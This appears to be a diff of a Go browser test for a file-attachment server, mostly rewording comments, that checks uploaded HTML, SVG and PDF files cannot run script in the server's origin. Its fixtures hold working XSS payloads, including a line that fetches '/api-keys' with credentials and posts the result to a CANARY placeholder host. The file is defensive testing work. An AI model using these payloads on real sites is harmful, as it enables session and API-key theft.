@@ -26,13 +26,14 @@ import (
 
 var inBrowser = flag.Bool("browser", false, "run the tests that need a real browser, chromium: the page, and hostile files")
 
-// What a file that runs would do: show it, leave a trace, call home.
+// mischief is what a malicious file would run: show itself, leave a trace, send a
+// request.
 const mischief = `document.cookie='pwned=1';localStorage.pwned=1;new Image().src='CANARY';fetch('CANARY');fetch('/api-keys',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('CANARY',{method:'POST',body:t}));alert(1)`
 
-// hostileFiles are those in which a browser might run something.
+// hostileFiles are files in which a browser might run something.
 var hostileFiles = []struct {
 	name, content string
-	harmless      bool // even without our headers: there only to see what they do
+	harmless      bool // even without the server's headers: included only to see what they do
 }{
 	{name: "page.html", content: `<!doctype html><body onload="MISCHIEF"><script>MISCHIEF</script><img src=x onerror="MISCHIEF"><svg onload="MISCHIEF"></svg><iframe srcdoc="<script>MISCHIEF</script>"></iframe><meta http-equiv=refresh content="0;url=CANARY"><form action=CANARY id=f><input name=a></form><script>f.submit()</script>`},
 	{name: "picture.svg", content: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="MISCHIEF"><script>MISCHIEF</script><image href="CANARY"/><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src="CANARY"/></body></foreignObject></svg>`},
@@ -45,13 +46,12 @@ var hostileFiles = []struct {
 	{name: "paper.pdf", content: "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL\\('CANARY'\\);this.submitForm\\('CANARY'\\);)>>>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n<script>MISCHIEF</script>", harmless: true},
 }
 
-// How long mischief takes at most; that of a file without our headers, which
-// succeeds, is waited for as long as the others, which do not.
+// mischiefTime is how long mischief takes at most. A file without the server's headers,
+// in which it succeeds, is given as much time as the others, in which it must not.
 const mischiefTime = 500 * time.Millisecond
 
-// No file runs in the origin of attachd, whatever it is and however it is
-// opened, and not even when something on the way takes Content-Disposition
-// away.
+// No file runs in the origin of attachd, whatever it is and however it is opened, even
+// when a proxy removes Content-Disposition.
 // ASVS 1.2.1, 1.3.4; CVE-2026-27616, CVE-2019-20102, GO-2026-5511
 func TestABrowserRunsNothing(t *testing.T) {
 	if !*inBrowser {
@@ -106,7 +106,7 @@ func TestABrowserRunsNothing(t *testing.T) {
 	}
 }
 
-// strip is a proxy to the server that takes headers away.
+// strip is a proxy to the server that removes headers.
 func strip(t *testing.T, address string, headers []string) string {
 	to, err := url.Parse(address)
 	if err != nil {
@@ -140,8 +140,8 @@ func startBrowser(t *testing.T) browser {
 	return browser{ctx}
 }
 
-// open opens an address in a tab of its own, signed in, and tells what
-// happened: how many dialogs came up, and the cookies afterwards.
+// open opens an address in a new tab, signed in, and returns how many dialogs came up,
+// and the cookies afterwards.
 func (b browser) open(t *testing.T, address, session string) (dialogs int64, cookies string) {
 	t.Helper()
 	ctx, closeTab := chromedp.NewContext(b)
